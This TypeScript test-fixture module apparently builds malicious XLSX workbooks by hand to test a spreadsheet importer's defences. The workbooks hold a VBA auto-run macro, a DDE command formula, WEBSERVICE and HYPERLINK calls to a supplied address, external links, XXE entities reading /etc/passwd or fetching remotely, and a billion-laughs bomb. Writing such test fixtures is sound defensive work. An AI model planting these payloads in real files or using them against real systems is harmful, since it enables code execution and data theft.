/** Spreadsheets that nobody would write by accident: scripts, calls to other addresses, entities, loops. */

const words = (text: string): Uint8Array => new TextEncoder().encode(text);

const numbers = (...fields: readonly (readonly [size: 2 | 4, value: number])[]): Uint8Array => {
  const view = new DataView(new ArrayBuffer(fields.reduce((sum, [size]) => sum + size, 0)));
  let at = 0;
  for (const [size, value] of fields) {
    if (size === 2) view.setUint16(at, value, true);
    else view.setUint32(at, value, true);
    at += size;
  }
  return new Uint8Array(view.buffer);
};

/** An archive whose entries are stored as they are. */
const archive = (entries: Readonly<Record<string, string>>): Promise<ArrayBuffer> => {
  const parts: Uint8Array[] = [];
  const directory: Uint8Array[] = [];
  let at = 0;
  for (const [name, text] of Object.entries(entries)) {
    const [title, content] = [words(name), words(text)];
    const sizes = [
      [4, 0],
      [4, content.length],
      [4, content.length],
      [2, title.length],
      [2, 0],
    ] as const;
    const head = numbers([4, 0x04034b50], [2, 20], [2, 0], [2, 0], [4, 0], ...sizes);
    parts.push(head, title, content);
    directory.push(
      numbers([4, 0x02014b50], [2, 20], [2, 20], [2, 0], [2, 0], [4, 0], ...sizes),
      numbers([2, 0], [2, 0], [2, 0], [4, 0], [4, at]),
      title,
    );
    at += head.length + title.length + content.length;
  }
  const count = Object.keys(entries).length;
  const length = directory.reduce((sum, part) => sum + part.length, 0);
  const end = numbers(
    [4, 0x06054b50],
    [2, 0],
    [2, 0],
    [2, count],
    [2, count],
    [4, length],
    [4, at],
    [2, 0],
  );
  return new Blob([...parts, ...directory, end] as BlobPart[]).arrayBuffer();
};

const xml = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const packaged = 'http://schemas.openxmlformats.org/package/2006';

const relations = (...targets: readonly [type: string, target: string, more?: string][]): string =>
  `${xml}<Relationships xmlns="${packaged}/relationships">${targets
    .map(
      ([type, target, more = ''], index) =>
        `<Relationship Id="rId${index + 1}" Type="${office}/${type}" Target="${target}" ${more}/>`,
    )
    .join('')}</Relationships>`;

const text = (cell: string, value: string): string =>
  `<c r="${cell}" t="inlineStr"><is><t>${value}</t></is></c>`;

const sheet = (row: string, more = ''): string =>
  `${xml}<worksheet xmlns="${main}" xmlns:r="${office}"><sheetData><row r="1">${text('A1', 'Nom')}${text('B1', 'Email')}</row><row r="2">${row}</row></sheetData>${more}</worksheet>`;

const plainRow = text('A2', 'Roux') + text('B2', 'anna@exemple.fr');

/** A workbook of one sheet; `parts` replace or add files of the archive. */
const workbook = (parts: Readonly<Record<string, string>> = {}): Promise<ArrayBuffer> =>
  archive({
    '[Content_Types].xml': `${xml}<Types xmlns="${packaged}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
    '_rels/.rels': relations(['officeDocument', 'xl/workbook.xml']),
    'xl/workbook.xml': `${xml}<workbook xmlns="${main}" xmlns:r="${office}"><sheets><sheet name="A" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': relations(['worksheet', 'worksheets/sheet1.xml']),
    'xl/worksheets/sheet1.xml': sheet(plainRow),
    ...parts,
  });

const formula = (cell: string, what: string, value: string): string =>
  `<c r="${cell}" t="str"><f>${what}</f><v>${value}</v></c>`;

/** Sound lists with something in them that wants to be run, or to call `home`: the list is read as if it were not there. */
export const activeSheets = (home: string): Readonly<Record<string, Promise<ArrayBuffer>>> => ({
  'macros (VBA)': workbook({
    'xl/vbaProject.bin': 'Sub Auto_Open() : Shell "calc" : End Sub',
    'xl/_rels/workbook.xml.rels': relations(
      ['worksheet', 'worksheets/sheet1.xml'],
      ['vbaProject', 'vbaProject.bin'],
    ),
  }),
  'a formula that starts a program (DDE)': workbook({
    'xl/worksheets/sheet1.xml': sheet(
      formula('A2', "cmd|'/C calc'!A0", 'Roux') + text('B2', 'anna@exemple.fr'),
    ),
  }),
  'formulas that call an address': workbook({
    'xl/worksheets/sheet1.xml': sheet(
      formula('A2', `WEBSERVICE("${home}/w")`, 'Roux') +
        formula('B2', `HYPERLINK("${home}/h","x")`, 'anna@exemple.fr'),
    ),
  }),
  'links to another workbook and to a picture elsewhere': workbook({
    'xl/_rels/workbook.xml.rels': relations(
      ['worksheet', 'worksheets/sheet1.xml'],
      ['externalLink', 'externalLinks/externalLink1.xml'],
    ),
    'xl/externalLinks/externalLink1.xml': `${xml}<externalLink xmlns="${main}"><externalBook xmlns:r="${office}" r:id="rId1"/></externalLink>`,
    'xl/externalLinks/_rels/externalLink1.xml.rels': relations([
      'externalLinkPath',
      `${home}/book.xlsx`,
      'TargetMode="External"',
    ]),
    'xl/worksheets/_rels/sheet1.xml.rels': relations([
      'image',
      `${home}/p.png`,
      'TargetMode="External"',
    ]),
  }),
});

const laughs = Array.from(
  { length: 12 },
  (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`,
).join('');

/** Lists whose names are entities: of another file, of an address, of themselves a billion times; and parts in a circle. */
export const trickySheets = (home: string): Readonly<Record<string, Promise<ArrayBuffer>>> => {
  const withEntities = (declared: string, used: string) =>
    workbook({
      'xl/worksheets/sheet1.xml': sheet(text('A2', used) + text('B2', 'anna@exemple.fr')).replace(
        xml,
        `${xml}<!DOCTYPE worksheet [${declared}]>`,
      ),
    });
  return {
    'an entity that is a file': withEntities('<!ENTITY x SYSTEM "file:///etc/passwd">', '&x;'),
    'an entity that is an address': withEntities(`<!ENTITY x SYSTEM "${home}/entity">`, '&x;'),
    'a billion laughs': withEntities(`<!ENTITY e0 "ha">${laughs}`, '&e12;'),
    'a workbook that is its own sheet': workbook({
      'xl/_rels/workbook.xml.rels': relations(['worksheet', 'workbook.xml']),
    }),
    'a size that no sheet has': workbook({
      'xl/worksheets/sheet1.xml': sheet(plainRow).replace(
        '<sheetData>',
        '<dimension ref="A1:XFD1048576"/><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells><sheetData>',
      ),
    }),
  };
};
